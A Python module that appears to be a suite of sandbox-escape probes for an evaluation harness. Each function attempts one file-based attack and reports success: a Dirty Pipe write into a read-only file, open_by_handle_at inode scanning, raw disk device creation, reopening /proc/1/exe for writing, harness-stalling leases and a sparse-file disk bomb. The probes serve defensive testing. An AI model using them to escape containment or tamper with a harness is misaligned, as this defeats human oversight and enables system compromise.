"""Attacks through files: links, attributes, handles, leases, what is left on a disk.

Each function is one attack: it returns what it got hold of, or nothing.
"""

import ctypes
import fcntl
import mmap
import os
import stat
import struct

from honest import GIFT

from probes.calls import ROOM, call, slots

ROOM_AT = ctypes.byref(ctypes.c_long(0))


def cache_of_pages():
    """Asks which pages of a file are in memory, which tells of earlier reads."""
    descriptor = os.open("/submission/honest.py", os.O_RDONLY)
    pair = (ctypes.c_ulong * 2)(0, 4096)
    vector = (ctypes.c_void_p * 2)(ctypes.addressof(ROOM), 1)
    return (
        call(27, ctypes.c_void_p(id(pair) & ~4095), 4096, ROOM) == 0
        or call(451, descriptor, pair, ROOM, 0) == 0
        or call(327, descriptor, vector, 1, 0, 0, 8) >= 0
    ) and "residency"


def deep_folders():
    """Makes folders so deep that recursive programs fail on them."""
    here = os.getcwd()
    os.chdir("/tmp")
    for _ in range(3000):
        try:
            os.mkdir("d")
            os.chdir("d")
        except OSError:
            break
    os.chdir(here)
    return


def dirty_pipe():
    """Writes into the page cache of a read-only file through a pipe."""
    path = next((path for path in slots() if os.path.getsize(path)), None)
    if not path:
        return None
    before = open(path, "rb").read()
    reader, writer = os.pipe()
    os.write(writer, b"x" * 4096)
    os.read(reader, 4096)
    descriptor = os.open(path, os.O_RDONLY)
    call(275, descriptor, ROOM_AT, writer, 0, 1, 0)
    os.write(writer, b"HOSTILE")
    return open(path, "rb").read() != before and path


def file_attributes():
    """Leaves notes in attributes of files that outlive the run."""
    found = []
    for path in (*slots(), "/exchange", "/submission", "/submission/honest.py"):
        try:
            os.setxattr(path, "user.note", b"1")
            found.append(path)
        except OSError:
            continue
    return found


def file_handles():
    """Opens files of the whole disk by number (open_by_handle_at)."""
    mount = os.open("/", os.O_RDONLY)
    for inode in range(2, 400):
        handle = struct.pack("IiII", 8, 1, inode, 0)
        if call(304, mount, handle, 0) >= 0:
            return inode
    return None


def hard_links():
    """Links pictures of the exchange into a folder of its own, and a file of its own into the exchange."""
    found = []
    own = "/tmp/own"
    open(own, "w").close()
    for path in slots():
        opened = f"/proc/self/fd/{os.open(path, os.O_RDONLY)}"
        for source, target in ((path, "/tmp/kept"), (own, path + "x"), (opened, "/tmp/kept2")):
            try:
                os.link(source, target)
                found.append((source, target))
            except OSError:
                continue
    return found


def leases():
    """Holds a lease on a picture, which would halt the harness when it writes the next one."""
    found = []
    for path in slots():
        descriptor = os.open(path, os.O_RDONLY)
        try:
            fcntl.fcntl(descriptor, fcntl.F_SETLEASE, fcntl.F_RDLCK)
            found.append(path)
        except OSError:
            os.close(descriptor)
    return found


def own_devices():
    """Makes a device file for the disk of the machine, and a program with another user's rights."""
    found = []
    for major, minor in ((254, 0), (8, 0), (259, 0), (1, 1)):
        try:
            os.mknod("/tmp/disk", stat.S_IFBLK | 0o600, os.makedev(major, minor))
            os.close(os.open("/tmp/disk", os.O_RDONLY))
            found.append((major, minor))
        except OSError:
            continue
    return found


def reopen_for_writing():
    """Opens again for writing what it was given for reading (/proc/self/fd, /proc/self/exe)."""
    paths = ["/proc/self/exe", "/proc/1/exe"]
    paths += [f"/proc/self/fd/{os.open(path, os.O_RDONLY)}" for path in slots()]
    found = []
    for path in paths:
        try:
            os.close(os.open(path, os.O_WRONLY))
            found.append(path)
        except OSError:
            continue
    return found


def shared_mapping():
    """Maps pictures for writing."""
    found = []
    for path in slots():
        descriptor = os.open(path, os.O_RDONLY)
        try:
            mmap.mmap(descriptor, 4096, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE)
            found.append(path)
        except (OSError, ValueError):
            os.close(descriptor)
    return found


def sparse_bomb():
    """Makes a file whose size is far beyond the limit."""
    try:
        with open("/tmp/bomb", "wb") as stream:
            stream.truncate(2**40)
            for place in range(0, 2**40, 2**34):
                stream.seek(place)
                stream.write(b"x" * 2**20)
    except OSError:
        pass
    used = os.stat("/tmp/bomb").st_blocks * 512 if os.path.exists("/tmp/bomb") else 0
    if os.path.exists("/tmp/bomb"):
        os.unlink("/tmp/bomb")
    return used > GIFT["scratch_bytes"] and used
